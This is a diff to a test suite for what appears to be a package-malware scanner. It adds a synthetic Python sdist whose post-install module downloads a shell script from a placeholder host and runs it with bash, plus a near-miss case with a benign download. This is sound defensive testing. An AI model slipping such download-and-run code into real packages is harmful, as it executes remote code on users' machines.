@@ -306,6 +306,27 @@ subprocess.run('default.bin', shell=True)
     verdict: 'hold',
   },
   {
+    rule: 'downloads-and-executes',
+    name: 'a submodule saves a script with urlretrieve and runs it with bash',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': '',
+        'synthetic_pkg/post_install.py': `import os, subprocess, urllib.request
+def download_and_run():
+    script_path = os.path.join(os.path.expanduser('~'), 'setup-storage.sh')
+    urllib.request.urlretrieve('https://files.example.com/scripts/setup-storage.sh', script_path)
+    os.chmod(script_path, 0o755)
+    subprocess.run(['/bin/bash', script_path, '--restore'])
+if __name__ == '__main__':
+    download_and_run()
+`,
+      }),
+    file: 'synthetic_pkg/post_install.py',
+    line: 6,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
     rule: 'decodes-and-executes',
     name: 'a lambda decoder over a reversed base64 blob, called in parentheses',
     scan: () =>
@@ -1018,6 +1039,23 @@ describe('each rule fires on a synthetic payload', () => {
 // Near misses: what legitimate packages write with the same capabilities
 
 describe('near misses legitimate code writes', () => {
+  it('does not count a download saved as data in a file that runs an unrelated command', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': '',
+      'synthetic_pkg/data.py': `import os, subprocess, urllib.request, wget
+def fetch_corpus(target):
+    path = os.path.join(target, 'corpus.zip')
+    urllib.request.urlretrieve('https://files.example.com/corpus.zip', path)
+    wget.download('https://files.example.com/vocab.txt', out=os.path.join(target, 'vocab.txt'))
+    return path
+def version():
+    return subprocess.run(['git', 'describe', '--tags'], capture_output=True).stdout
+`,
+    })
+    expect(r.signals.filter((s) => s.rule === 'downloads-and-executes')).toEqual([])
+    expect(r.verdict).toBe('publish')
+  })
+
   it('does not count a child process inheriting the environment', async () => {
     const r = await npm(
       {
